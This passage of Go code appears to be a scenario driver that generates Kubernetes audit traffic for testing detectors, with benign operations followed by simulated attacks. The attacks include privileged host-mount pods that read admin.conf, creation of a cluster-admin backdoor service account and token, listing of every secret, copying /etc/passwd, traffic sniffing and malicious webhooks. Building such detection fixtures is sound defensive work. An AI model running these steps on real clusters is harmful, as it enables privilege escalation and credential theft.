		{"patch", "role", "reader", "-n", "team-a", "--type=json", "-p", `[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["configmaps"],"verbs":["get","list","watch"]}}]`},
		{"patch", "deployment", "shop", "-n", "team-a", "--type=merge", "-p", `{"spec":{"replicas":2}}`},
		{"patch", "deployment", "shop", "-n", "team-a", "--type=strategic", "-p", `{"spec":{"template":{"metadata":{"annotations":{"team-a/restarted-by":"alice"}}}}}`},
		{"patch", "secret", "api-key", "-n", "team-a", "--type=json", "-p", `[{"op":"replace","path":"/data/key","value":"Zml4dHVyZS1hcGkta2V5LTAwMDI="}]`},
	}
	for _, s := range steps {
		if _, err := d.Kubectl(Alice, "", s...); err != nil {
			return err
		}
	}
	// Server-side apply, as a controller or a client-go program does it (PATCH with
	// application/apply-patch+yaml).
	cs := d.Client(Alice)
	sec := []byte(`{"apiVersion":"v1","kind":"Secret","metadata":{"name":"webhook-token","namespace":"team-a"},"type":"Opaque","stringData":{"token":"fixture-webhook-token-1"}}`)
	if _, err := cs.CoreV1().Secrets("team-a").Patch(d.Ctx, "webhook-token", types.ApplyPatchType, sec, metav1.PatchOptions{FieldManager: "shop-operator", Force: ptr.To(true)}); err != nil {
		return err
	}
	cm := []byte(`{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"shop-flags","namespace":"team-a"},"data":{"checkout":"v2"}}`)
	if _, err := cs.CoreV1().ConfigMaps("team-a").Patch(d.Ctx, "shop-flags", types.ApplyPatchType, cm, metav1.PatchOptions{FieldManager: "shop-operator"}); err != nil {
		return err
	}
	// The same role again server-side with kubectl (apply --server-side takes the fields
	// over from the client-side apply).
	return d.Apply(Alice, role, "--server-side", "--force-conflicts")
}

func runReviews(d *Driver) error {
	cs := d.Client(CIDeployer)
	tok, err := d.MintToken(CIDeployer, "prod", "web", &authnv1.TokenRequest{Spec: authnv1.TokenRequestSpec{ExpirationSeconds: ptr.To[int64](600)}})
	if err != nil {
		return err
	}
	for _, t := range []string{tok, "not-a-token-" + randHex(8)} {
		r, err := cs.AuthenticationV1().TokenReviews().Create(d.Ctx, &authnv1.TokenReview{Spec: authnv1.TokenReviewSpec{Token: t}}, metav1.CreateOptions{})
		if err != nil {
			return err
		}
		d.Note("token review: authenticated=%v user=%s", r.Status.Authenticated, r.Status.User.Username)
	}
	if _, err := cs.AuthorizationV1().SubjectAccessReviews().Create(d.Ctx, &authzv1.SubjectAccessReview{Spec: authzv1.SubjectAccessReviewSpec{
		User: Bob, ResourceAttributes: &authzv1.ResourceAttributes{Namespace: "team-a", Verb: "delete", Resource: "pods"}}}, metav1.CreateOptions{}); err != nil {
		return err
	}
	_, _ = d.Kubectl(Bob, "", "auth", "can-i", "create", "deployments", "-n", "team-a") // "no" is exit 1
	_, err = d.Kubectl(Bob, "", "auth", "can-i", "get", "pods", "-n", "team-a")
	return err
}

// newCSR makes a PEM certificate request for cn/orgs (the key is thrown away: the
// scenario only needs the request).
func newCSR(cn string, orgs ...string) ([]byte, error) {
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: cn, Organization: orgs}}, k)
	if err != nil {
		return nil, err
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}), nil
}

func csrManifest(name, signer string, pemReq []byte) string {
	return fmt.Sprintf(`apiVersion: certificates.k8s.io/v1
kind: CertificateSigningRequest
metadata: {name: %s}
spec:
  request: %s
  signerName: %s
  expirationSeconds: 86400
  usages: [client auth]
`, name, b64(pemReq), signer)
}

func runCSRApproved(d *Driver) error {
	req, err := newCSR(Alice, "developers")
	if err != nil {
		return err
	}
	if _, err := d.Kubectl(Alice, csrManifest("alice-laptop", "kubernetes.io/kube-apiserver-client", req), "create", "-f", "-"); err != nil {
		return err
	}
	if _, err := d.Kubectl(Admin, "", "certificate", "approve", "alice-laptop"); err != nil {
		return err
	}
	return d.waitCSRIssued(Alice, "alice-laptop")
}

func (d *Driver) waitCSRIssued(user, name string) error {
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		c, err := d.Client(user).CertificatesV1().CertificateSigningRequests().Get(d.Ctx, name, metav1.GetOptions{})
		if err != nil {
			return err
		}
		if len(c.Status.Certificate) > 0 {
			d.Note("csr %s issued", name)
			return nil
		}
		for _, cond := range c.Status.Conditions {
			if cond.Type == certv1.CertificateFailed || cond.Type == certv1.CertificateDenied {
				d.Note("csr %s: %s %s", name, cond.Type, cond.Message)
				return nil
			}
		}
		time.Sleep(time.Second)
	}
	d.Note("csr %s not issued after 30s", name)
	return nil
}

func runImpersonateBenign(d *Driver) error {
	_, err := d.Kubectl(Admin, "", "get", "pods", "-n", "team-a", "--as=alice")
	if err != nil {
		return err
	}
	_, _ = d.Kubectl(Admin, "", "auth", "can-i", "delete", "deployments", "-n", "team-a", "--as=bob")
	return nil
}

func runExecHealthChecks(d *Driver) error {
	p, err := d.shopPod()
	if err != nil {
		return err
	}
	_, _ = d.Kubectl(Alice, "", "exec", "-n", "team-a", p, "--", "curl", "-sk", "https://localhost:8443/healthz")
	_, _ = d.Kubectl(Alice, "", "exec", "-n", "team-a", p, "--", "bash", "-c", "</dev/tcp/127.0.0.1/8080")
	return nil
}

func runMetricsScrape(d *Driver) error {
	rc := d.ClientVia(Admin, Remote{UserAgent: "Prometheus/2.53.0"}).CoreV1().RESTClient()
	for _, p := range []string{"/api/v1/nodes/node-1/proxy/metrics/cadvisor", "/api/v1/nodes/node-1/proxy/metrics/resource", "/api/v1/nodes/node-1/proxy/metrics"} {
		_, err := rc.Get().AbsPath(p).DoRaw(d.Ctx)
		d.Note("scrape %s: %v", p, err)
	}
	return nil
}

// runHelmInstall creates what a small chart holds, as Helm does (client-go, its user
// agent, one create per object). Helm's release record (a Secret of type
// helm.sh/release.v1) is left out: at this policy its data would be in the log.
func runHelmInstall(d *Driver) error {
	d.Caused("payments", "ledger-api")
	cs := d.ClientVia(Admin, Remote{UserAgent: "Helm/3.16.2"})
	const ns, name = "payments", "ledger-api"
	labels := map[string]string{"app.kubernetes.io/name": name, "app.kubernetes.io/instance": name, "app.kubernetes.io/managed-by": "Helm"}
	meta := metav1.ObjectMeta{Name: name, Namespace: ns, Labels: labels, Annotations: map[string]string{"meta.helm.sh/release-name": name, "meta.helm.sh/release-namespace": ns}}
	if _, err := cs.CoreV1().ServiceAccounts(ns).Create(d.Ctx, &corev1.ServiceAccount{ObjectMeta: meta}, metav1.CreateOptions{}); err != nil {
		return err
	}
	if _, err := cs.RbacV1().Roles(ns).Create(d.Ctx, &rbacv1.Role{ObjectMeta: meta, Rules: []rbacv1.PolicyRule{
		{APIGroups: []string{""}, Resources: []string{"configmaps"}, Verbs: []string{"get", "list", "watch"}}}}, metav1.CreateOptions{}); err != nil {
		return err
	}
	if _, err := cs.RbacV1().RoleBindings(ns).Create(d.Ctx, &rbacv1.RoleBinding{ObjectMeta: meta,
		RoleRef:  rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "Role", Name: name},
		Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Name: name, Namespace: ns}}}, metav1.CreateOptions{}); err != nil {
		return err
	}
	sel := map[string]string{"app.kubernetes.io/name": name, "app.kubernetes.io/instance": name}
	if _, err := cs.CoreV1().Services(ns).Create(d.Ctx, &corev1.Service{ObjectMeta: meta, Spec: corev1.ServiceSpec{Selector: sel,
		Ports: []corev1.ServicePort{{Name: "http", Port: 80, TargetPort: intstr.FromInt32(8080)}}}}, metav1.CreateOptions{}); err != nil {
		return err
	}
	dep := &appsv1.Deployment{ObjectMeta: meta, Spec: appsv1.DeploymentSpec{Replicas: ptr.To[int32](1), Selector: &metav1.LabelSelector{MatchLabels: sel},
		Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: corev1.PodSpec{ServiceAccountName: name,
			Containers: []corev1.Container{{Name: "api", Image: "registry.example.com/payments/ledger-api:2.0.1", Ports: []corev1.ContainerPort{{ContainerPort: 8080}},
				SecurityContext: &corev1.SecurityContext{AllowPrivilegeEscalation: ptr.To(false), RunAsNonRoot: ptr.To(true)}}}}}}}
	if _, err := cs.AppsV1().Deployments(ns).Create(d.Ctx, dep, metav1.CreateOptions{}); err != nil {
		return err
	}
	_, err := d.WaitPods(ns, name, 1, 60*time.Second)
	return err
}

// runPodTokenInCluster: a web pod's own token used from the pod network, as the
// application uses it (the near miss of a pod token used from outside the cluster).
func runPodTokenInCluster(d *Driver) error {
	pod, err := d.prodWebPodOnNode1()
	if err != nil {
		return err
	}
	tok, err := d.webPodToken(pod)
	if err != nil {
		return err
	}
	r, err := d.TokenClient(tok, Remote{UserAgent: "web/1.4.2", IP: "10.244.1.23"}).AuthenticationV1().SelfSubjectReviews().Create(d.Ctx, &authnv1.SelfSubjectReview{}, metav1.CreateOptions{})
	if err == nil {
		d.Note("self subject review: %s", r.Status.UserInfo.Username)
	}
	return err
}

func runIdle(d *Driver) error {
	select {
	case <-time.After(25 * time.Second):
	case <-d.Ctx.Done():
	}
	return d.Ctx.Err()
}

// ---- attacks ----

func runFailedLogins(d *Driver) error {
	bad := []string{
		randHex(16), randHex(16), "admin", "password", "kubernetes", randHex(32),
		// A JWT-shaped token signed by nobody the apiserver knows.
		"eyJhbGciOiJSUzI1NiIsImtpZCI6ImZvcmdlZCJ9.eyJpc3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50Iiwic3ViIjoic3lzdGVtOnNlcnZpY2VhY2NvdW50Omt1YmUtc3lzdGVtOmRlZmF1bHQifQ.Zm9yZ2VkLXNpZ25hdHVyZQ",
		randHex(16), randHex(16), randHex(16), randHex(16), randHex(16),
	}
	paths := []string{"/api/v1/namespaces/kube-system/secrets", "/api/v1/pods", "/apis", "/version"}
	for i, t := range bad {
		d.Minted(t) // the redactor ignores the short words
		cs := d.TokenClient(t, Remote{UserAgent: uaCurl, IP: ScannerIP})
		_, err := cs.CoreV1().RESTClient().Get().AbsPath(paths[i%len(paths)]).DoRaw(d.Ctx)
		if !apierrors.IsUnauthorized(err) {
			return fmt.Errorf("bad token %d: want 401, got %v", i, err)
		}
	}
	for i := 0; i < 2; i++ {
		t := randHex(16)
		d.Minted(t)
		_, _ = d.Kubectl(Alice, "", "get", "pods", "-n", "team-a", "--token="+t)
	}
	return nil
}

func runAnonymousProbes(d *Driver) error {
	cfg := Remote{UserAgent: uaCurl, IP: ScannerIP}.apply(d.C.AnonymousConfig())
	cs := kubernetes.NewForConfigOrDie(cfg)
	for _, p := range []string{"/healthz", "/readyz", "/livez", "/version", "/api", "/apis", "/.well-known/openid-configuration",
		"/api/v1/namespaces/kube-system/secrets", "/api/v1/pods", "/apis/apps/v1/deployments", "/api/v1/nodes"} {
		b, err := cs.CoreV1().RESTClient().Get().AbsPath(p).DoRaw(d.Ctx)
		switch {
		case err == nil:
			d.Note("anonymous %s: allowed (%d bytes)", p, len(b))
		case apierrors.IsForbidden(err):
			d.Note("anonymous %s: forbidden", p)
		default:
			d.Note("anonymous %s: %v", p, err)
		}
	}
	_, err := cs.CoreV1().ConfigMaps("default").Create(d.Ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "probe"}, Data: map[string]string{"x": "1"}}, metav1.CreateOptions{})
	if !apierrors.IsForbidden(err) {
		return fmt.Errorf("anonymous configmap create: want 403, got %v", err)
	}
	return nil
}

func runAnonymousAllowed(d *Driver) error {
	m := `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: public-status}
rules:
  - apiGroups: [""]
    resources: [pods, configmaps]
    verbs: [get, list]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: public-status}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: public-status}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: system:anonymous}]
`
	if err := d.Apply(Admin, m); err != nil {
		return err
	}
	cs := kubernetes.NewForConfigOrDie(Remote{UserAgent: uaCurl, IP: ScannerIP}.apply(d.C.AnonymousConfig()))
	// RBAC caches are updated from a watch: give the binding a moment to take effect.
	var err error
	for i := 0; i < 20; i++ {
		if _, err = cs.CoreV1().Pods("prod").List(d.Ctx, metav1.ListOptions{}); err == nil {
			break
		}
		time.Sleep(250 * time.Millisecond)
	}
	if err != nil {
		return err
	}
	if _, err := cs.CoreV1().ConfigMaps("prod").List(d.Ctx, metav1.ListOptions{}); err != nil {
		return err
	}
	_, err = d.Kubectl(Admin, "", "delete", "clusterrolebinding", "public-status")
	return err
}

// shopPod is a scheduled pod of team-a/shop (the same one for every exec scenario).
func (d *Driver) shopPod() (string, error) {
	if d.shop != "" {
		return d.shop, nil
	}
	pods, err := d.WaitPods("team-a", "shop", 2, 30*time.Second)
	if err != nil {
		return "", err
	}
	for _, p := range pods {
		pod, err := d.Client(Admin).CoreV1().Pods("team-a").Get(d.Ctx, p, metav1.GetOptions{})
		if err == nil && pod.Spec.NodeName != "" && pod.DeletionTimestamp == nil {
			d.shop = p
			return p, nil
		}
	}
	return "", errors.New("no scheduled team-a/shop pod")
}

func runExecShell(d *Driver) error {
	p, err := d.shopPod()
	if err != nil {
		return err
	}
	_, _ = d.Kubectl(Alice, "id\n", "exec", "-i", "-n", "team-a", p, "-c", "shop", "--", "/bin/sh")
	_, _ = d.Kubectl(Alice, "", "exec", "-it", "-n", "team-a", p, "--", "/bin/sh")
	// The same through SPDY, as kubectl before 1.30 and most client-go programs exec: a
	// POST (verb create) that the apiserver proxies to the kubelet before answering.
	cfg := Remote{UserAgent: "kubectl/v1.29.10 (linux/amd64) kubernetes/9a1c2b0"}.apply(d.C.RESTConfig(Alice))
	req := d.Client(Alice).CoreV1().RESTClient().Post().Resource("pods").Namespace("team-a").Name(p).SubResource("exec").
		VersionedParams(&corev1.PodExecOptions{Container: "shop", Command: []string{"/bin/sh"}, Stdin: true, Stdout: true, TTY: true}, scheme.ParameterCodec)
	ex, err := remotecommand.NewSPDYExecutor(cfg, "POST", req.URL())
	if err != nil {
		return err
	}
	err = ex.StreamWithContext(d.Ctx, remotecommand.StreamOptions{Stdin: strings.NewReader("id\n"), Stdout: io.Discard, Tty: true})
	d.Note("SPDY exec: %v", err)
	return nil
}

func execRun(cmd ...string) func(d *Driver) error {
	return func(d *Driver) error {
		p, err := d.shopPod()
		if err != nil {
			return err
		}
		_, _ = d.Kubectl(Alice, "", append([]string{"exec", "-n", "team-a", p, "--"}, cmd...)...)
		return nil
	}
}

func runAttach(d *Driver) error {
	p, err := d.shopPod()
	if err != nil {
		return err
	}
	_, _ = d.Kubectl(Alice, "", "attach", "-i", "-n", "team-a", p, "-c", "shop")
	return nil
}

func runCopyOut(d *Driver) error {
	p, err := d.shopPod()
	if err != nil {
		return err
	}
	dst := d.C.Dir + "/home/passwd-copy"
	_, _ = d.Kubectl(Alice, "", "cp", "team-a/"+p+":/etc/passwd", dst)
	return nil
}

func runPortForward(d *Driver) error {
	pods, err := d.WaitPods("payments", "ledger-db", 1, 30*time.Second)
	if err != nil {
		return err
	}
	// kubectl listens locally and opens the stream to the apiserver at the first
	// connection; --address and a fixed local port on 127.0.0.1, and a client that
	// connects once, make it ask.
	port, err := freePort()
	if err != nil {
		return err
	}
	ctx, cancel := contextWithTimeout(d, 15*time.Second)
	defer cancel()
	done := make(chan struct{})
	go func() {
		defer close(done)
		_, _, _ = d.C.Kubectl(ctx, Bob, nil, "port-forward", "-n", "payments", "pod/"+pods[0], fmt.Sprintf("%d:5432", port), "--address=127.0.0.1")
	}()
	for i := 0; i < 50; i++ {
		if dialOnce(fmt.Sprintf("127.0.0.1:%d", port)) {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	time.Sleep(time.Second)
	cancel()
	<-done
	return nil
}

func runNodesProxy(d *Driver) error {
	for _, p := range []string{"/api/v1/nodes/node-1/proxy/pods", "/api/v1/nodes/node-1/proxy/runningpods/", "/api/v1/nodes/node-1/proxy/configz"} {
		_, _ = d.Kubectl(CIDeployer, "", "get", "--raw", p)
	}
	return nil
}

func runDebug(d *Driver) error {
	p, err := d.shopPod()
	if err != nil {
		return err
	}
	// The edit and admin roles do not grant pods/ephemeralcontainers: alice is refused,
	// the cluster-admin CI account is not.
	args := []string{"debug", "-n", "team-a", p, "--image=docker.io/library/busybox:1.36", "--target=shop", "--profile=general", "--", "sleep", "3600"}
	_, _ = d.Kubectl(Alice, "", args...)
	_, err = d.Kubectl(CIDeployer, "", args...)
	return err
}

func runPrivilegedPod(d *Driver) error {
	d.Caused("payments", "node-debug")
	overrides := `{"spec":{"nodeName":"node-1","hostPID":true,"hostNetwork":true,"volumes":[{"name":"host-root","hostPath":{"path":"/"}}],"containers":[{"name":"node-debug","image":"docker.io/library/ubuntu:24.04","command":["nsenter","--target","1","--mount","--uts","--ipc","--net","--pid","--","bash"],"stdin":true,"tty":true,"securityContext":{"privileged":true},"volumeMounts":[{"name":"host-root","mountPath":"/host"}]}]}}`
	if _, err := d.Kubectl(Bob, "", "run", "node-debug", "-n", "payments", "--image=docker.io/library/ubuntu:24.04", "--restart=Never", "--overrides="+overrides); err != nil {
		return err
	}
	_, _ = d.Kubectl(Bob, "", "exec", "-n", "payments", "node-debug", "--", "chroot", "/host", "cat", "/etc/kubernetes/admin.conf")
	return nil
}

func runPrivilegedDeployment(d *Driver) error {
	d.Caused("team-a", "log-agent")
	m := `apiVersion: apps/v1
kind: Deployment
metadata: {name: log-agent, namespace: team-a}
spec:
  replicas: 1
  selector: {matchLabels: {app: log-agent}}
  template:
    metadata: {labels: {app: log-agent}}
    spec:
      volumes: [{name: docker-sock, hostPath: {path: /var/run/docker.sock, type: Socket}}]
      containers:
        - name: agent
          image: docker.io/library/alpine:3.20
          command: [sleep, infinity]
          securityContext:
            privileged: true
            capabilities: {add: [SYS_ADMIN]}
          volumeMounts: [{name: docker-sock, mountPath: /var/run/docker.sock}]
`
	if err := d.Apply(Alice, m); err != nil {
		return err
	}
	_, err := d.WaitPods("team-a", "log-agent", 1, 60*time.Second)
	return err
}

func runDaemonSet(d *Driver) error {
	d.Caused("kube-system", "node-debugger")
	m := `apiVersion: apps/v1
kind: DaemonSet
metadata: {name: node-debugger, namespace: kube-system, labels: {app: node-debugger}}
spec:
  selector: {matchLabels: {app: node-debugger}}
  template:
    metadata: {labels: {app: node-debugger}}
    spec:
      hostPID: true
      hostNetwork: true
      tolerations: [{operator: Exists}]
      volumes: [{name: host, hostPath: {path: /}}]
      containers:
        - name: debug
          image: docker.io/nicolaka/netshoot:latest
          command: [sleep, infinity]
          securityContext:
            privileged: true
            capabilities: {add: [SYS_ADMIN, NET_ADMIN, SYS_PTRACE]}
          volumeMounts: [{name: host, mountPath: /host}]
`
	if err := d.Apply(CIDeployer, m); err != nil {
		return err
	}
	_, err := d.WaitPods("kube-system", "node-debugger", 2, 60*time.Second)
	return err
}

func runHostPIDJob(d *Driver) error {
	d.Caused("team-a", "inspect")
	m := `apiVersion: batch/v1
kind: Job
metadata: {name: inspect, namespace: team-a}
spec:
  backoffLimit: 0
  template:
    spec:
      hostPID: true
      restartPolicy: Never
      containers:
        - name: inspect
          image: docker.io/nicolaka/netshoot:v0.13
          command: [sh, -c, "ps aux; cat /proc/1/environ"]
`
	if err := d.Apply(Alice, m); err != nil {
		return err
	}
	_, err := d.WaitPods("team-a", "inspect", 1, 60*time.Second)
	return err
}

func runHostNetSTS(d *Driver) error {
	d.Caused("team-a", "sniffer")
	m := `apiVersion: apps/v1
kind: StatefulSet
metadata: {name: sniffer, namespace: team-a}
spec:
  serviceName: sniffer
  replicas: 1
  selector: {matchLabels: {app: sniffer}}
  template:
    metadata: {labels: {app: sniffer}}
    spec:
      hostNetwork: true
      volumes: [{name: logs, hostPath: {path: /var/log}}]
      containers:
        - name: tcpdump
          image: docker.io/nicolaka/netshoot:v0.13
          command: [tcpdump, -i, any, -w, /logs/cap.pcap]
          volumeMounts: [{name: logs, mountPath: /logs}]
`
	if err := d.Apply(Alice, m); err != nil {
		return err
	}
	_, err := d.WaitPods("team-a", "sniffer", 1, 60*time.Second)
	return err
}

func runPodKubeSystem(d *Driver) error {
	d.Caused("kube-system", "kube-proxy-helper")
	_, err := d.Kubectl(CIDeployer, "", "run", "kube-proxy-helper", "-n", "kube-system", "--image=docker.io/library/alpine:3.20", "--restart=Never", "--", "sleep", "infinity")
	return err
}

func runControlPlanePod(d *Driver) error {
	d.Caused("team-a", "cp-probe")
	m := `apiVersion: v1
kind: Pod
metadata: {name: cp-probe, namespace: team-a}
spec:
  nodeSelector: {node-role.kubernetes.io/control-plane: ""}
  tolerations: [{key: node-role.kubernetes.io/control-plane, operator: Exists, effect: NoSchedule}]
  containers: [{name: probe, image: docker.io/library/alpine:3.20, command: [sleep, infinity]}]
`
	if err := d.Apply(Alice, m); err != nil {
		return err
	}
	n, err := d.WaitScheduled("team-a", "cp-probe", 60*time.Second)
	d.Note("cp-probe scheduled on %s", n)
	if err != nil {
		return err
	}
	// nodeName bypasses the scheduler, its taints and its selectors.
	d.Caused("team-a", "cp-pinned")
	return d.Apply(Alice, `apiVersion: v1
kind: Pod
metadata: {name: cp-pinned, namespace: team-a}
spec:
  nodeName: cp-1
  containers: [{name: probe, image: docker.io/library/alpine:3.20, command: [sleep, infinity]}]
`)
}

func runPSARelaxed(d *Driver) error {
	d.Caused("prod", "prod-debug")
	pod := `apiVersion: v1
kind: Pod
metadata: {name: prod-debug, namespace: prod}
spec:
  hostPID: true
  containers:
    - name: shell
      image: docker.io/library/busybox:1.36
      command: [sleep, infinity]
      securityContext: {privileged: true}
`
	if err := d.Apply(CIDeployer, pod); err == nil {
		return errors.New("privileged pod in prod was admitted under enforce=baseline")
	}
	if _, err := d.Kubectl(CIDeployer, "", "label", "namespace", "prod", "pod-security.kubernetes.io/enforce=privileged", "--overwrite"); err != nil {
		return err
	}
	if err := d.Apply(CIDeployer, pod); err != nil {
		return err
	}
	_, err := d.Kubectl(CIDeployer, "", "label", "namespace", "prod", "pod-security.kubernetes.io/enforce-")
	return err
}

func runClusterAdminBinding(d *Driver) error {
	if _, err := d.Kubectl(CIDeployer, "", "create", "serviceaccount", backdoorSA, "-n", "kube-system"); err != nil {
		return err
	}
	_, err := d.Kubectl(CIDeployer, "", "create", "clusterrolebinding", backdoorSA+"-binding", "--clusterrole=cluster-admin", "--serviceaccount=kube-system:"+backdoorSA)
	return err
}

func runTokenRequest(d *Driver) error {
	out, err := d.Kubectl(CIDeployer, "", "create", "token", backdoorSA, "-n", "kube-system", "--duration=48h")
	if err != nil {
		return err
	}
	t := strings.TrimSpace(out)
	d.Minted(t)
	d.ShapeToken = t
	d.backdoorToken = t
	// The CI machine tries the token once before it leaves for the attacker's (the later
	// scenarios use it from 203.0.113.77): one credential, two addresses.
	_, err = d.TokenClient(t, Remote{UserAgent: uaAttackerKubectl}).AuthenticationV1().SelfSubjectReviews().Create(d.Ctx, &authnv1.SelfSubjectReview{}, metav1.CreateOptions{})
	return err
}

func (d *Driver) backdoor(ua string) (*kubernetes.Clientset, error) {
	if d.backdoorToken == "" {
		return nil, errors.New("token-request must run first")
	}
	return d.TokenClient(d.backdoorToken, Remote{UserAgent: ua, IP: Attacker2IP}), nil
}

func runSecretListAll(d *Driver) error {
	cs, err := d.backdoor(uaAttackerKubectl)
	if err != nil {
		return err
	}
	if _, err := cs.CoreV1().Secrets("").List(d.Ctx, metav1.ListOptions{Limit: 500}); err != nil {
		return err
	}
	_, err = cs.CoreV1().Secrets("kube-system").List(d.Ctx, metav1.ListOptions{Limit: 500})
	return err
}

func runDiscoveryBurst(d *Driver) error {
	cs, err := d.backdoor(uaAttackerKubectl)
	if err != nil {
		return err
	}
	if _, err := cs.AuthorizationV1().SelfSubjectRulesReviews().Create(d.Ctx, &authzv1.SelfSubjectRulesReview{Spec: authzv1.SelfSubjectRulesReviewSpec{Namespace: "kube-system"}}, metav1.CreateOptions{}); err != nil {
		return err
	}
	rc := cs.CoreV1().RESTClient()
	paths := []string{"/api/v1/pods", "/api/v1/services", "/api/v1/configmaps", "/api/v1/serviceaccounts", "/api/v1/nodes", "/api/v1/namespaces",
		"/api/v1/endpoints", "/api/v1/persistentvolumes", "/api/v1/persistentvolumeclaims", "/api/v1/events",
		"/apis/apps/v1/deployments", "/apis/apps/v1/daemonsets", "/apis/apps/v1/statefulsets", "/apis/batch/v1/jobs", "/apis/batch/v1/cronjobs",
		"/apis/rbac.authorization.k8s.io/v1/clusterroles", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", "/apis/rbac.authorization.k8s.io/v1/roles",
		"/apis/rbac.authorization.k8s.io/v1/rolebindings", "/apis/networking.k8s.io/v1/networkpolicies", "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations"}
	for _, p := range paths {
		if _, err := rc.Get().AbsPath(p).Param("limit", "500").DoRaw(d.Ctx); err != nil {
			return fmt.Errorf("%s: %w", p, err)
		}
	}
	return nil
}

func runRBACBySA(d *Driver) error {
	cs, err := d.backdoor(uaAttackerKubectl)
	if err != nil {
		return err
	}
	_, err = cs.RbacV1().ClusterRoleBindings().Create(d.Ctx, &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "system:metrics-reader-ext"},
		RoleRef:    rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: "cluster-admin"},
		Subjects:   []rbacv1.Subject{{APIGroup: "rbac.authorization.k8s.io", Kind: "User", Name: "mallory"}},
	}, metav1.CreateOptions{FieldManager: "kubectl-create"})
	return err
}

func runWebhooks(d *Driver) error {
	cs, err := d.backdoor(uaAttackerKubectl)
	if err != nil {
		return err
	}
	// A service that does not exist: the apiserver resolves it in its own informers and
	// never opens a connection. failurePolicy Ignore keeps the later scenarios' pods
	// admitted during the moment both exist.
	svc := &admregv1.ServiceReference{Namespace: "kube-system", Name: "metrics-hook", Path: ptr.To("/mutate"), Port: ptr.To[int32](443)}
	rule := admregv1.RuleWithOperations{Operations: []admregv1.OperationType{admregv1.Create, admregv1.Update},
		Rule: admregv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}}}
	none := admregv1.SideEffectClassNone
	ignore := admregv1.Ignore
	mw := &admregv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "metrics-injector"},
		Webhooks: []admregv1.MutatingWebhook{{Name: "inject.metrics.example.com", ClientConfig: admregv1.WebhookClientConfig{Service: svc},
			Rules: []admregv1.RuleWithOperations{rule}, SideEffects: &none, FailurePolicy: &ignore, AdmissionReviewVersions: []string{"v1"}, TimeoutSeconds: ptr.To[int32](2)}}}
	if _, err := cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(d.Ctx, mw, metav1.CreateOptions{FieldManager: "kubectl-client-side-apply"}); err != nil {
		return err
	}
	vw := &admregv1.ValidatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "policy-bypass"},
		Webhooks: []admregv1.ValidatingWebhook{{Name: "validate.metrics.example.com", ClientConfig: admregv1.WebhookClientConfig{Service: svc},
			Rules: []admregv1.RuleWithOperations{rule}, SideEffects: &none, FailurePolicy: &ignore, AdmissionReviewVersions: []string{"v1"}, TimeoutSeconds: ptr.To[int32](2)}}}
	if _, err := cs.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(d.Ctx, vw, metav1.CreateOptions{FieldManager: "kubectl-client-side-apply"}); err != nil {
		return err
	}
	if err := cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Delete(d.Ctx, mw.Name, metav1.DeleteOptions{}); err != nil {
		return err
	}
	return cs.AdmissionregistrationV1().ValidatingWebhookConfigurations().Delete(d.Ctx, vw.Name, metav1.DeleteOptions{})
}

func runAPIService(d *Driver) error {
	m := `apiVersion: apiregistration.k8s.io/v1
kind: APIService
metadata: {name: v1beta1.metrics.example.io}
spec:
  group: metrics.example.io
  version: v1beta1
  groupPriorityMinimum: 100
  versionPriority: 100
  insecureSkipTLSVerify: true
  service: {namespace: kube-system, name: metrics-proxy, port: 443}
`
	if err := d.Apply(CIDeployer, m); err != nil {
		return err
	}
	time.Sleep(time.Second)
	if _, err := d.Kubectl(CIDeployer, "", "patch", "apiservice", "v1beta1.metrics.example.io", "--type=merge", "-p", `{"spec":{"service":{"name":"metrics-proxy-2"}}}`); err != nil {
		return err
	}
	time.Sleep(time.Second)
	_, err := d.Kubectl(CIDeployer, "", "delete", "apiservice", "v1beta1.metrics.example.io")
	return err
}

func runLongLivedToken(d *Driver) error {
	m := `apiVersion: v1
kind: Secret
metadata:
  name: kube-metrics-agent-token
  namespace: kube-system
  annotations: {kubernetes.io/service-account.name: kube-metrics-agent}
type: kubernetes.io/service-account-token
`
	if err := d.Apply(CIDeployer, m); err != nil {
		return err
	}
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		s, err := d.Client(Admin).CoreV1().Secrets("kube-system").Get(d.Ctx, "kube-metrics-agent-token", metav1.GetOptions{})
		if err == nil && len(s.Data["token"]) > 0 {
			d.Minted(string(s.Data["token"]))
			_, err = d.Kubectl(CIDeployer, "", "get", "secret", "kube-metrics-agent-token", "-n", "kube-system", "-o", "yaml")
			return err
		}
		time.Sleep(500 * time.Millisecond)
	}
	return errors.New("the token controller did not fill kube-metrics-agent-token")
}

// webPodToken mints, as node-1's kubelet would for a pod it runs, a token of prod/web
// bound to a pod on node-1.
func (d *Driver) webPodToken(pod string) (string, error) {
	p, err := d.Client(Admin).CoreV1().Pods("prod").Get(d.Ctx, pod, metav1.GetOptions{})
